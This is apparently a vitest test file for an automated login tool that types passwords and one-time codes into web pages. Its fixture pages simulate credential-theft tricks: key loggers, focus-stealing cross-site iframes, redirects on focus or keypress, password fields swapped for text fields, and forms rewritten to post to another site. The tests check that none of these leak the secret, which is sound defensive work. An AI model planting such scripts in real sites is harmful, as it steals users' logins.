import { afterAll, describe, expect } from 'vitest';
import { readLogin } from '../../activities/login/reading/read-login.ts';
import { it } from '../browser/shared-service.ts';
import { useStore } from '../store/databases.ts';
import {
  OTHER_SITE,
  CODE as CODE_TYPED,
  FORM,
  PASSWORD,
  PASSWORD_IN_FORM,
  KEY_LOGGER,
  startLoginOnSite,
  type LoginOnSite,
} from './login-on-site.ts';

/** A second step, which asks for the password alone. */
const ONE = (more: string): string =>
  `<h1>Sign in</h1><form action="/in" method="post"><label>Password <input type="password" name="pass" id="pass"></label>
   <button>Sign in</button></form>${more}`;

const CODE = (more = ''): string =>
  `<h1>Enter the code</h1><form action="/in" method="post"><label>Code <input name="code" id="code" autocomplete="one-time-code"></label>
   <button>Verify</button></form>${more}`;

/** A captcha beside the fields, without whose answer the form does not go. */
const CAPTCHA = (how: string, script: string): string =>
  FORM(`<div class="g-recaptcha" data-sitekey="k" ${how}><input type="hidden" id="proof" name="g-recaptcha-response"></div>
    <script>const answer = () => { proof.value = 'by itself' }; ${script}</script>`);

const PAGES: Record<string, string> = {
  '/proves-itself': CAPTCHA(
    'style="width: 300px; height: 60px"',
    'setTimeout(answer, 500); document.forms[0].onsubmit = () => proof.value !== "";',
  ),
  '/proves-unseen': CAPTCHA(
    'data-size="invisible"',
    'document.forms[0].onsubmit = ({ target }) => { setTimeout(() => { answer(); target.submit() }, 300); return false };',
  ),
  '/plain': FORM(),
  '/trap': `${KEY_LOGGER('trap')}${FORM('<script>document.getElementById("pass").focus()</script>')}`,
  '/trap-input': `${KEY_LOGGER('trap')}<input id="x" autofocus><script>document.getElementById("x").focus()</script>`,
  '/leaves-on-focus': FORM(
    `<script>document.getElementById('pass').onfocus = () => location = '${OTHER_SITE}/trap';</script>`,
  ),
  '/leaves-on-focus-late': FORM(
    `<script>document.getElementById('pass').onfocus = () => setTimeout(() => location = '${OTHER_SITE}/trap', 5);</script>`,
  ),
  '/leaves-on-key': FORM(
    `<script>document.getElementById('pass').onkeydown = () => location = '${OTHER_SITE}/trap';</script>`,
  ),
  '/popup-on-click': FORM(
    `<script>addEventListener('click', () => open('${OTHER_SITE}/trap-input'), { once: true });</script>`,
  ),
  '/popup-on-key': FORM(
    `<script>document.getElementById('pass').addEventListener('keydown', () => open('${OTHER_SITE}/trap-input'), { once: true });</script>`,
  ),
  '/search-steals': `<input id="search" type="search" name="q" placeholder="Search">${FORM(
    `<script>let n = 0; document.getElementById('pass').onkeydown = () => { if (++n === 4) document.getElementById('search').focus(); };</script>`,
  )}`,
  '/frame-steals': ONE(`<iframe width="300" height="60" src="${OTHER_SITE}/stealer"></iframe>`),
  '/stealer': `${KEY_LOGGER('frame')}<input id="x"><script>setInterval(() => document.getElementById('x').focus(), 10)</script>`,
  '/code': CODE(),
  '/code-boxes': `<h1>Enter the code</h1><form action="/in" method="post"><div>${Array.from(
    { length: 6 },
    (_, at) =>
      `<input name="c${String(at)}" aria-label="Digit ${String(at + 1)}" inputmode="numeric" maxlength="1" size="1">`,
  ).join('')}</div>
    <button>Verify</button></form><script>const boxes = [...document.querySelectorAll('input')];
    boxes.forEach((box, at) => box.addEventListener('input', () => { if (box.value !== '') boxes[at + 1]?.focus(); }));</script>`,
  '/code-goes': CODE(
    `<script>code.oninput = () => { if (code.value.length === 6) document.querySelector('form').submit(); };</script>`,
  ),
  '/code-goes-in-place': CODE(
    `<section hidden><h1>Trust this browser?</h1><button onclick="fetch('/taken', { method: 'POST', body: 'trusted' })">Do not trust</button></section>
    <script>code.oninput = async () => {
      if (code.value.length < 6) return;
      document.querySelector('form').hidden = true;
      document.querySelector('section').hidden = false;
      document.querySelector('section button').focus();
      await (await fetch('/in', { method: 'POST', body: code.value })).text();
    };</script>`,
  ),
  '/code-fetches': CODE(`<p role="alert" id="error"></p><script>code.oninput = () => {
    if (code.value.length === 6) fetch('/in', { method: 'POST', body: 'code=' + code.value }).then(() =>
      setTimeout(() => { error.textContent = 'Incorrect code'; }, 300));
  };</script>`),
  '/code-frame-steals': CODE(`<iframe width="300" height="60" src="${OTHER_SITE}/waits"></iframe>
    <script>code.oninput = () => { if (code.value.length === 2) frames[0].postMessage('now', '*'); };</script>`),
  '/waits': `${KEY_LOGGER('frame')}<input id="x"><script>onmessage = () => document.getElementById('x').focus();</script>`,
  '/becomes-text': FORM(
    `<script>document.getElementById('user').addEventListener('input', () => { const p = document.getElementById('pass'); p.type = 'text'; p.name = 'comment'; });</script>`,
  ),
  '/swaps': FORM(
    `<script>document.getElementById('user').addEventListener('input', () => { const p = document.getElementById('pass'); p.outerHTML = '<textarea id="pass" name="comment"></textarea>'; }, { once: true });</script>`,
  ),
  '/posts-away': FORM().replace('/in', `${OTHER_SITE}/taken`),
  '/turns-away': FORM(
    `<script>document.querySelector('form').onsubmit = ({ target }) => { target.action = '${OTHER_SITE}/taken'; };</script>`,
  ),
  '/repeats': FORM(`<div role="alert">ann, the password ${PASSWORD} is wrong.</div>`),
  '/alerts': FORM(
    `<script>document.getElementById('pass').addEventListener('focus', () => alert('Beware'), { once: true });</script>`,
  ),
};

const stores = useStore();
let on: LoginOnSite;
it.beforeAll(async ({ service }) => {
  on = await startLoginOnSite(service, stores().store, PAGES);
});
afterAll(() => on.close());

const WHOLE = (): string[] => [`localhost:${on.site.port} user=ann&pass=${PASSWORD_IN_FORM}`];

describe('a password', () => {
  it.each([
    ['a login page', '/plain'],
    ['a page that another one comes in the place of as the field is entered', '/leaves-on-focus'],
    ['the same a moment later', '/leaves-on-focus-late'],
    ['a page that opens a window at the first click', '/popup-on-click'],
    ['a page that opens one at the first key', '/popup-on-key'],
    ['a page whose search takes the focus', '/search-steals'],
    ['a page that shows a dialog', '/alerts'],
    ['a page whose captcha answers itself in a moment', '/proves-itself'],
    ['a page whose captcha answers itself as the form is sent', '/proves-unseen'],
  ])('is typed in full and once into its field on %s', async (_what, path) => {
    const outcome = await on.logIn(path);
    expect(on.capturedKeys).toEqual([]);
    expect(on.posted).toEqual(WHOLE());
    expect(outcome).toMatchObject({ reading: { kind: 'logged_in' } });
  });

  it.each([
    ['a field that has become another', '/becomes-text', 'element_not_found'],
    ['a comment in its place', '/swaps', 'element_not_found'],
    ['a form that sends it to a site that is not allowed', '/posts-away', 'domain_not_allowed'],
    ['a form that turns to such a site as it is sent', '/turns-away', 'domain_not_allowed'],
  ])('is not leaked by %s', async (_what, path, code) => {
    expect(await on.logIn(path)).toBe(code);
    expect([...on.capturedKeys, ...on.posted]).toEqual([]);
  });

  it('does not reach a page that tries to replace the login on each key', async () => {
    await on.logIn('/leaves-on-key');
    expect(on.capturedKeys).toEqual([]);
    expect(on.posted.filter((each) => each.startsWith('127.0.0.1'))).toEqual([]);
  });

  it('is left to a form that goes on by itself, of which nothing is pressed then', async () => {
    await on.logIn('/code-goes-in-place');
    expect(on.posted).toEqual([`localhost:${on.site.port} ${CODE_TYPED}`]);
  });

  it('does not reach a cross-site frame that takes the focus', async () => {
    await on.logIn('/frame-steals');
    expect(on.capturedKeys).toEqual([]);
  });

  it('is redacted when a page repeats it steps later', async () => {
    await on.logIn('/plain');
    const page = await on.open('/plain');
    await page.goto(`${on.site.origin}/repeats?said=${encodeURIComponent(PASSWORD)}`);
    const later = await readLogin(page);
    expect(later.website_error).toBe('ann, the password ••• is wrong.');
    expect(JSON.stringify(later)).not.toContain(PASSWORD);
  });

  it('may be sent to another site if the connection has no allowed domains', async () => {
    const outcome = await on.logIn('/posts-away', { allowedDomains: [] });
    expect(on.posted).toEqual([expect.stringContaining(`127.0.0.1:${on.site.port} user=ann&pass=`)]);
    expect(outcome).toMatchObject({ reading: { kind: 'logged_in' } });
  });
});

describe('a one-time code', () => {
  it.each([
    ['a page that asks for it', '/code', `code=${CODE_TYPED}`],
    [
      'boxes, one for each digit',
      '/code-boxes',
      CODE_TYPED.split('')
        .map((digit, at) => `c${String(at)}=${digit}`)
        .join('&'),
    ],
    ['a form that its last digit sends', '/code-goes', `code=${CODE_TYPED}`],
  ])('is typed once into its field on %s', async (_what, path, sent) => {
    expect(await on.logIn(path)).toMatchObject({ reading: { kind: 'logged_in' } });
    expect(on.posted).toEqual([`localhost:${on.site.port} ${sent}`]);
  });

  it('is not sent again by the button if a script has sent it and shows the answer late', async () => {
    expect(await on.logIn('/code-fetches')).toMatchObject({ reading: { website_error: 'Incorrect code' } });
    expect(on.posted).toEqual([`localhost:${on.site.port} code=${CODE_TYPED}`]);
  });

  it('does not reach a cross-site frame that takes the focus', async () => {
    await on.logIn('/code-frame-steals');
    expect(on.capturedKeys).toEqual([]);
    expect(on.posted).toEqual([`localhost:${on.site.port} code=${CODE_TYPED}`]);
  });
});
